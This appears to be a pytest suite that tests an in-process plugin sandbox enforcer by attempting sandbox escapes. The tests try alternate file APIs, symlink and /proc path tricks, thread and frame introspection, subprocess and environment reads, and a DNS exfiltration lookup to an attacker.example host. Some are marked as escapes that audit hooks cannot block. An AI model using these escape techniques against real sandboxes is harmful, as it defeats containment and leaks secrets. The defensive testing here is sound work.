"""Escape suite, in-process level: each test attacks and passes only if the attack fails.

The plugin may read ``data/a.txt``'s directory and write ``out/``; the target it wants is
``SECRET`` (outside both). Techniques that in-process audit hooks cannot stop are marked
``xfail(strict=True)`` with UNSTOPPABLE and listed in docs/enforcer.md; the process
sandbox is the wall for them.
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import gc
import io
import os
import pathlib
import shutil
import socket
import sqlite3
import sys
import threading
import weakref

import pytest

UNSTOPPABLE = "in-process hooks cannot stop this; see process sandbox"


@pytest.fixture
def env(plugins, tmp_path):
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key").write_text("TOPSECRET")
    enf = plugins.make({"filesystem": {"read": [str(plugins.data) + "/"],
                                       "write": [str(plugins.out) + "/"]},
                        "network": ["127.0.0.1:1"]})

    class E:
        pass
    e = E()
    e.enf, e.p, e.secret = enf, plugins, str(secret / "key")
    return e


def refused(fn, *args, **kwargs) -> bool:
    try:
        r = fn(*args, **kwargs)
    except PermissionError:
        return True
    if hasattr(r, "close"):
        r.close()
    return False


def as_plugin(env, fn, *args):
    with env.enf.guard("p1"):
        return fn(*args)


# -- alternative APIs ------------------------------------------------------------------------

def test_os_open(env):
    assert as_plugin(env, refused, os.open, env.secret, os.O_RDONLY)


def test_io_open_code(env):
    assert as_plugin(env, refused, io.open_code, env.secret)


def test_pathlib_read_text(env):
    assert as_plugin(env, refused, pathlib.Path(env.secret).read_text)


def test_shutil_copy_into_granted_dir(env):
    assert as_plugin(env, refused, shutil.copyfile, env.secret, str(env.p.out / "copy"))
    assert not (env.p.out / "copy").exists()


def test_sqlite_on_secret(env):
    assert as_plugin(env, refused, sqlite3.connect, env.secret)


def test_listdir_of_secret_dir(env):
    assert as_plugin(env, refused, os.listdir, os.path.dirname(env.secret))


def test_catch_and_retry_with_another_api(env):
    def attack():
        for fn in (lambda: open(env.secret), lambda: os.open(env.secret, 0),
                   lambda: io.FileIO(env.secret), lambda: open(env.secret.encode())):
            try:
                fn()
                return False
            except PermissionError:
                continue
        return True
    assert as_plugin(env, attack)


# -- path tricks -------------------------------------------------------------------------------

def test_dotdot_from_granted_dir(env):
    path = str(env.p.data) + "/../secret/key"
    assert as_plugin(env, refused, open, path)


def test_symlink_in_writable_dir(env):
    link = env.p.out / "link"
    os.symlink(env.secret, link)  # the host made it; the plugin follows it
    assert as_plugin(env, refused, open, str(link))


def test_hard_link_into_writable_dir(env):
    assert as_plugin(env, refused, os.link, env.secret, str(env.p.out / "hard"))


def test_proc_self_root(env):
    assert as_plugin(env, refused, open, "/proc/self/root" + env.secret)


def test_proc_self_fd_of_host_file(env):
    fd = os.open(env.secret, os.O_RDONLY)
    try:
        assert as_plugin(env, refused, open, f"/proc/self/fd/{fd}")
    finally:
        os.close(fd)


def test_guessing_a_host_fd(env):
    fd = os.open(env.secret, os.O_RDONLY)
    try:
        assert as_plugin(env, refused, lambda: open(fd, closefd=False))
    finally:
        os.close(fd)


def test_dir_fd_relative_open(env):
    dfd = os.open(os.path.dirname(env.secret), os.O_RDONLY)
    try:
        assert as_plugin(env, refused, lambda: os.open("key", os.O_RDONLY, dir_fd=dfd))
    finally:
        os.close(dfd)


def test_pathlike_that_lies(env):
    calls = []

    class Lies:
        def __fspath__(self):
            calls.append(1)
            return str(env.p.data / "a.txt") if len(calls) == 2 else env.secret
    assert as_plugin(env, refused, open, Lies())


def test_str_subclass_path(env):
    class S(str):
        pass
    assert as_plugin(env, refused, open, S(env.secret))


def test_patching_os_readlink_to_fool_resolution(env):
    link = env.p.data / "innocent.txt"
    os.symlink(env.secret, link)
    real = os.readlink
    os.readlink = lambda p, *a, **k: str(env.p.data / "a.txt")
    try:
        assert as_plugin(env, refused, open, str(link))
    finally:
        os.readlink = real


# -- threads and callbacks -----------------------------------------------------------------------

def test_thread_with_builtin_target(env):
    out = []

    def attack():
        t = threading.Thread(target=lambda: out.append(refused(open, env.secret)))
        t.start()
        t.join()
    as_plugin(env, attack)
    assert out == [True]


def test_executor_with_builtin(env):
    with concurrent.futures.ThreadPoolExecutor(2) as ex:
        fut = as_plugin(env, ex.submit, open, env.secret)
        with pytest.raises(PermissionError):
            fut.result()


def test_asyncio_to_thread(env):
    async def attack():
        with env.enf.guard("p1"):
            return await asyncio.to_thread(refused, open, env.secret)
    assert asyncio.run(attack())


def test_weakref_finalize_builtin(env):
    class O:
        pass
    o = O()
    out = []
    as_plugin(env, weakref.finalize, o, lambda: out.append(refused(open, env.secret)))
    del o
    gc.collect()
    assert out == [True]


def test_generator_resumed_by_host(env, load_module):
    m = load_module(env.p.plugin_dir("p1"), f"""
def g():
    yield 1
    yield open({env.secret!r}).read()
""")
    g = as_plugin(env, m.g)
    next(g)
    assert refused(next, g)


def test_del_runs_in_host(env, load_module):
    m = load_module(env.p.plugin_dir("p1"), f"""
out = []
class D:
    def __del__(self):
        try:
            out.append(open({env.secret!r}).read())
        except PermissionError:
            out.append("refused")
""")
    d = as_plugin(env, m.D)
    del d
    gc.collect()
    assert m.out == ["refused"]


@pytest.mark.xfail(sys.version_info < (3, 12), strict=True, reason=UNSTOPPABLE + " (no _thread event before 3.12)")
def test_raw_thread_with_builtin(env):
    import _thread
    out = []
    done = threading.Event()

    def attack():
        _thread.start_new_thread(lambda: (out.append(refused(open, env.secret)), done.set()), ())
    try:
        as_plugin(env, attack)
    except PermissionError:
        return  # thread creation itself refused (3.12+)
    done.wait(5)
    assert out == [True]


def test_signal_handler(env):
    import signal
    assert as_plugin(env, refused, signal.signal, signal.SIGUSR1, lambda *a: None)


# -- introspection and tampering ---------------------------------------------------------------

def test_gc_get_objects(env):
    assert as_plugin(env, refused, gc.get_objects)


def test_gc_get_referrers(env):
    assert as_plugin(env, refused, gc.get_referrers, env.enf)


def test_settrace(env):
    assert as_plugin(env, refused, sys.settrace, lambda *a: None)
    sys.settrace(None)


def test_add_audit_hook(env):
    seen = []
    as_plugin(env, sys.addaudithook, lambda e, a: seen.append(e))  # CPython swallows the refusal
    sys.audit("promptline.test.event")
    assert "promptline.test.event" not in seen


def test_frames_of_the_hook_from_a_caught_refusal(env):
    def attack():
        try:
            open(env.secret)
        except PermissionError as exc:
            tb = exc.__traceback__
            while tb is not None:
                frame = tb.tb_frame  # reaching the hook's frame refused
                tb = tb.tb_next
        return frame
    assert as_plugin(env, refused, attack)


def test_forged_code_filename(env):
    def attack():
        code = (lambda: open(env.secret)).__code__
        return code.replace(co_filename="/usr/lib/python3/threading.py")
    assert as_plugin(env, refused, attack)


def test_exec_with_host_filename_still_attributed(env):
    ns = {}

    def attack():
        exec(compile("def f(p):\n    return open(p)\n", threading.__file__, "exec"), ns)
    as_plugin(env, attack)
    t_out = []
    t = threading.Thread(target=lambda: t_out.append(refused(ns["f"], env.secret)))
    t.start()
    t.join()
    assert t_out == [True]


def test_enforcer_use_from_plugin(env):
    assert as_plugin(env, refused, env.enf.use, env.enf.policy_set)


def test_privileged_from_plugin(env, load_module):
    m = load_module(env.p.plugin_dir("p1"), f"""
from promptline import enforcer
def attack():
    with enforcer.privileged():
        return open({env.secret!r})
""")
    assert refused(m.attack)


def test_guard_as_another_plugin(env):
    assert as_plugin(env, refused, lambda: env.enf.guard("trusted-other").__enter__())


def test_setting_enforcer_attributes(env):
    def attack():
        try:
            env.enf._snap = None
        except AttributeError:
            raise PermissionError("read-only") from None
    assert as_plugin(env, refused, attack)


# -- native code and processes -------------------------------------------------------------------

def test_native_test_module_import(env):
    # a native module that opens raw memory; ctypes itself is usually imported by the host
    # already (and re-importing it would break the host's ctypes users)
    if "_testcapi" in sys.modules:
        pytest.skip("_testcapi already imported")
    assert as_plugin(env, refused, __import__, "_testcapi")
    assert "_testcapi" not in sys.modules


def test_ctypes_already_imported_by_host(env):
    import ctypes
    assert as_plugin(env, refused, lambda: ctypes.CDLL(None).getpid())


def test_subprocess(env):
    import subprocess
    assert as_plugin(env, refused, subprocess.run, ["/bin/cat", env.secret])


def test_os_system(env):
    assert as_plugin(env, refused, os.system, f"cat {env.secret}")


def test_fork(env):
    assert as_plugin(env, refused, os.fork)


# -- environment side doors ------------------------------------------------------------------

def test_environ_secret(env, monkeypatch):
    monkeypatch.setenv("PL_SECRET_TOKEN", "s3cr3t")

    def attack():
        return [os.environ.get("PL_SECRET_TOKEN"), os.getenv("PL_SECRET_TOKEN"),
                dict(os.environ).get("PL_SECRET_TOKEN"), os.environb.get(b"PL_SECRET_TOKEN")]
    assert as_plugin(env, attack) == [None] * 4


def test_environ_internals(env):
    with env.enf.guard("p1"), pytest.raises(AttributeError):
        os.environ._data


def test_proc_self_environ(env):
    assert as_plugin(env, refused, open, "/proc/self/environ", "rb")


def test_posix_environ(env, monkeypatch):
    import posix
    monkeypatch.setenv("PL_SECRET_TOKEN", "s3cr3t")
    assert as_plugin(env, lambda: posix.environ.get(b"PL_SECRET_TOKEN")) is None


@pytest.mark.xfail(strict=True, reason=UNSTOPPABLE + " (closures are readable without an audit event)")
def test_environ_through_closure_cells(env, monkeypatch):
    monkeypatch.setenv("PL_SECRET_TOKEN", "s3cr3t")

    def attack():
        for cell in type(os.environ).__getitem__.__closure__:
            obj = cell.cell_contents
            if hasattr(obj, "_data"):
                return obj["PL_SECRET_TOKEN"]
    assert as_plugin(env, attack) is None


# -- network -------------------------------------------------------------------------------------

def test_dns_exfiltration_refused_before_lookup(env):
    assert as_plugin(env, refused, socket.getaddrinfo, "c2VjcmV0.attacker.example", 80)


def test_connect_to_ungranted_port(env):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    try:
        c = socket.socket()
        assert as_plugin(env, refused, c.connect, srv.getsockname())
        c.close()
    finally:
        srv.close()


def test_udp_sendto(env):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        assert as_plugin(env, refused, s.sendto, b"secret", ("127.0.0.1", 9))
    finally:
        s.close()


def test_bind_a_listener(env):
    s = socket.socket()
    try:
        assert as_plugin(env, refused, s.bind, ("127.0.0.1", 0))
    finally:
        s.close()


# -- what in-process hooks cannot stop -----------------------------------------------------------

@pytest.mark.xfail(strict=True, reason=UNSTOPPABLE + " (stat is not audited)")
def test_stat_reveals_existence(env):
    assert as_plugin(env, refused, os.stat, env.secret)


@pytest.mark.xfail(strict=True, reason=UNSTOPPABLE + " (a C callable planted in a host module runs without plugin frames)")
def test_planting_a_builtin_in_a_host_module(env):
    import functools
    import json
    real = json.dumps

    def attack():
        json.dumps = functools.partial(open, env.secret)
    as_plugin(env, attack)
    try:
        assert refused(json.dumps)  # the host calls what it thinks is json.dumps
    finally:
        json.dumps = real


@pytest.mark.xfail(strict=True, reason=UNSTOPPABLE + " (module globals of the enforcer are writable)")
def test_switching_off_the_hook_through_module_state(env):
    from promptline.enforcer import _hook
    saved = _hook.BOX[0]

    def attack():
        _hook.BOX[0] = None
        return refused(open, env.secret)
    try:
        assert as_plugin(env, attack)
    finally:
        _hook.BOX[0] = saved


@pytest.mark.xfail(strict=True, reason=UNSTOPPABLE + " (frame.f_back and f_locals are not audited)")
def test_reading_host_locals_through_frames(env):
    host_secret = "TOPSECRET"  # noqa: F841 - the plugin goes looking for this

    def attack():
        f = sys._getframe(0)
        while f is not None:
            if "host_secret" in f.f_locals:
                return f.f_locals["host_secret"]
            f = f.f_back
    assert as_plugin(env, attack) is None


@pytest.mark.xfail(strict=True, reason=UNSTOPPABLE + " (_posixsubprocess.fork_exec has no audit event before 3.14)")
def test_posixsubprocess_already_imported(env):
    import subprocess  # noqa: F401 - the host imported it first
    assert as_plugin(env, refused, lambda: sys.modules["_posixsubprocess"].fork_exec)
